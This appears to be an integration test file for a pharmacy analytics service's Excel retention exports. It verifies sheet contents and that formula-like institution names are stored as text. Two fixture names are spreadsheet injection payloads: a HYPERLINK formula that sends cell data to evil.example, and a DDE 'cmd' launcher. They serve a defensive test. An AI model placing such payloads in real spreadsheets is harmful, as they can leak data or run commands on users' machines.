import {
  CONDITION_LABELS,
  retentionContracts,
  type RetentionCohortsResponse,
  type RetentionOverdueResponse,
} from '@pharmalytics/domain';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signInDemoMembers, type DemoMember } from '../testing/auth.ts';
import type { HttpClient } from '../testing/http-client.ts';
import { institutionSheets, pharmacyCodeOf } from '../testing/institution-sheets.ts';
import { startTestApp, type TestApp } from '../testing/test-app.ts';
import { uploadAs } from '../testing/upload.ts';

/** Institutions whose uploaded names a spreadsheet could take for formulas. */
const FORMULA = { code: '4011000011', name: '=HYPERLINK("http://evil.example/?"&A1,"x")' };
const AT_SIGN = { code: '4011000029', name: '@SUM(1+1)*cmd|" /C calc"!A0' };

/**
 * Store 1001, January to March 2025: K comes every 14 days from 01-10 to 02-07 and then stays
 * away (supply end 02-21 by its interval, overdue by 03-31); L first on 01-15, back on 02-15;
 * M once on 02-03 (not judged).
 */
const VISITS: [typeof FORMULA, string, string[]][] = [
  [FORMULA, 'XL-K', ['2025-01-10', '2025-01-24', '2025-02-07']],
  [AT_SIGN, 'XL-L', ['2025-01-15', '2025-02-15']],
  [AT_SIGN, 'XL-M', ['2025-02-03']],
];
const PERIOD = { from: '2025-01-01', to: '2025-03-31', storeCodes: '1001' };

let t: TestApp;
let clients: Record<DemoMember, HttpClient>;
beforeAll(async () => {
  t = await startTestApp();
  const code = await pharmacyCodeOf(t, '1001');
  const reply = await uploadAs(
    t,
    '1001',
    VISITS.flatMap(([institution, patient, dates]) =>
      institutionSheets(code, institution, dates, patient),
    ),
  );
  expect(reply.body).toMatchObject({ status: 'loaded', rowsRefused: 0 });
  clients = await signInDemoMembers(t);
}, 120_000);
afterAll(() => t.close());

async function workbook(path: string, query: Record<string, string>) {
  const reply = await clients.admin.get(`${path}?${new URLSearchParams(query)}`);
  expect(reply.status, reply.bytes.toString('utf8').slice(0, 200)).toBe(200);
  expect(reply.headers.get('content-type')).toBe(
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  );
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(reply.bytes as unknown as ArrayBuffer);
  return { book, disposition: decodeURIComponent(reply.headers.get('content-disposition')!) };
}

/** A row's values from column 1 (exceljs keeps index 0 empty); empty cells read undefined. */
const rowValues = (ws: ExcelJS.Worksheet, n: number) =>
  (ws.getRow(n).values as ExcelJS.CellValue[]).slice(1);
/** The rows under the header (row 8, below the conditions block and a blank row). */
const bodyRows = (ws: ExcelJS.Worksheet) =>
  Array.from({ length: ws.rowCount - 8 }, (_, i) => rowValues(ws, 9 + i));
const conditions = (ws: ExcelJS.Worksheet) =>
  Object.fromEntries([1, 2, 3, 4, 5, 6].map((n) => rowValues(ws, n)));
/** What a workbook's row holds for values of the JSON: nothing for null, none after the last. */
function cells(values: readonly unknown[]): unknown[] {
  const row = values.map((v) => (v === null ? undefined : v));
  while (row.length > 0 && row.at(-1) === undefined) row.pop();
  return row;
}
/** A text cell that stays text: never a formula, formatted as text. */
function expectText(cell: ExcelJS.Cell, value: string) {
  expect(cell.type).toBe(ExcelJS.ValueType.String);
  expect(cell.value).toBe(value);
  expect(cell.formula).toBeUndefined();
  expect(cell.numFmt).toBe('@');
}

describe('GET /v3/xlsx/retention/cohorts', () => {
  const query = { ...PERIOD, breakdown: 'institution' };
  let json: RetentionCohortsResponse;
  let book: ExcelJS.Workbook;
  let disposition: string;
  beforeAll(async () => {
    const reply = await clients.admin.get<RetentionCohortsResponse>(
      `${retentionContracts.cohorts.path}?${new URLSearchParams(query)}`,
    );
    json = reply.body;
    ({ book, disposition } = await workbook(retentionContracts.cohortsXlsx.path, query));
  });

  it('names the file and opens each sheet with the conditions block', () => {
    expect(disposition).toContain(
      'Pharmalytics_患者の継続_新患の継続率_2025-01-01_2025-03-31.xlsx',
    );
    expect(book.worksheets.map((ws) => ws.name)).toEqual(['新患の継続率', '内訳']);
    for (const ws of book.worksheets) {
      const block = conditions(ws);
      expect(block[CONDITION_LABELS.corporation]).toBe('株式会社博多ファーマシー');
      expect(block[CONDITION_LABELS.stores]).toBe('はかた薬局 天神店（1店舗）');
      expect(block[CONDITION_LABELS.period]).toBe('2025/01/01〜2025/03/31');
      expect(block[CONDITION_LABELS.comparison]).toBe('なし');
      expect(block[CONDITION_LABELS.filters]).toBe('内訳: 処方元医療機関');
      expect(block[CONDITION_LABELS.madeAt]).toMatch(/^\d{4}\/\d{2}\/\d{2} \d{2}:\d{2}$/);
    }
  });

  it('holds the cohorts and the breakdown of the call, cell for cell', () => {
    const table = book.getWorksheet('新患の継続率')!;
    expect(rowValues(table, 8)).toEqual([
      '初回来局月',
      '新患数',
      '30日以内再来率',
      '90日以内再来率',
      '180日以内再来率',
      ...Array.from({ length: 12 }, (_, i) => `${i + 1}か月後`),
    ]);
    expect(json.cohorts.map((c) => [c.name, c.patients])).toEqual([
      ['2025-01', 2],
      ['2025-02', 1],
      ['2025-03', 0],
    ]);
    const returns = (g: RetentionCohortsResponse['total']) => [
      g.patients,
      ...[30, 90, 180].map((d) => g.returns.find((r) => r.days === d)!.rate),
    ];
    expect(bodyRows(table)).toEqual([
      ...json.cohorts.map((c) => cells([c.name, ...returns(c), ...c.monthsSince])),
      cells([json.total.name, ...returns(json.total)]),
    ]);
    expect(table.getRow(9).getCell(3).numFmt).toBe('0.0"%"');

    const breakdown = book.getWorksheet('内訳')!;
    expect(rowValues(breakdown, 8)).toEqual([
      '処方元医療機関',
      '新患数',
      '30日以内再来率',
      '90日以内再来率',
      '180日以内再来率',
    ]);
    expect(json.groups.map((g) => g.name).sort()).toEqual([AT_SIGN.name, FORMULA.name].sort());
    expect(bodyRows(breakdown)).toEqual(
      [...json.groups, json.total].map((g) => cells([g.name, ...returns(g)])),
    );
  });

  it('writes the formula-like institution names as text cells', () => {
    const breakdown = book.getWorksheet('内訳')!;
    json.groups.forEach((g, i) => expectText(breakdown.getRow(9 + i).getCell(1), g.name));
  });
});

describe('GET /v3/xlsx/retention/overdue', () => {
  const query = { ...PERIOD, graceDays: '14' };
  let json: RetentionOverdueResponse;
  let book: ExcelJS.Workbook;
  let disposition: string;
  beforeAll(async () => {
    const reply = await clients.admin.get<RetentionOverdueResponse>(
      `${retentionContracts.overdue.path}?${new URLSearchParams(query)}`,
    );
    json = reply.body;
    ({ book, disposition } = await workbook(retentionContracts.overdueXlsx.path, query));
  });

  it('names the file and its sheets, under the conditions block with the grace', () => {
    expect(disposition).toContain(
      'Pharmalytics_患者の継続_来局予定を過ぎた患者_2025-01-01_2025-03-31.xlsx',
    );
    expect(book.worksheets.map((ws) => ws.name)).toEqual([
      '来局予定を過ぎた患者',
      '店舗別',
      '医療機関別',
      '供給終了月別',
    ]);
    for (const ws of book.worksheets) {
      expect(conditions(ws)[CONDITION_LABELS.filters]).toBe('猶予日数: 14日');
    }
  });

  it('lists every overdue patient by pseudonym and the totals of the call, cell for cell', () => {
    expect(json.patients).toHaveLength(1);
    const list = book.getWorksheet('来局予定を過ぎた患者')!;
    expect(rowValues(list, 8)).toEqual([
      '患者ID（仮名）',
      '店舗コード',
      '店舗',
      '最終来局日',
      '処方元医療機関',
      '供給終了日',
      '算出根拠',
      '超過日数',
      '売上見込み（円/月）',
    ]);
    expect(bodyRows(list)).toEqual(
      json.patients.map((p) => [
        p.pseudonym,
        p.storeCode,
        p.storeName,
        p.lastVisit,
        p.institutionName,
        p.supplyEnd,
        '来局間隔',
        p.daysOverdue,
        p.revenueAtRisk,
      ]),
    );
    expect(json.patients[0]).toMatchObject({ lastVisit: '2025-02-07', supplyEnd: '2025-02-21' });
    expect(list.getRow(9).getCell(9).numFmt).toBe('#,##0"円"');
    for (const [name, tallies] of [
      ['店舗別', json.byStore],
      ['医療機関別', json.byInstitution],
      ['供給終了月別', json.trend],
    ] as const) {
      expect(bodyRows(book.getWorksheet(name)!), name).toEqual(
        [...tallies, json.total].map((t) => [t.name, t.patients, t.revenueAtRisk]),
      );
    }
  });

  it('writes the formula-like institution name as a text cell', () => {
    expectText(book.getWorksheet('来局予定を過ぎた患者')!.getRow(9).getCell(5), FORMULA.name);
    expectText(book.getWorksheet('医療機関別')!.getRow(9).getCell(1), FORMULA.name);
  });

  it('is for the advanced plan', async () => {
    expect(
      (
        await clients.basic.get(
          `${retentionContracts.overdueXlsx.path}?${new URLSearchParams({ ...query, storeCodes: '3001' })}`,
        )
      ).status,
    ).toBe(403);
  });
});
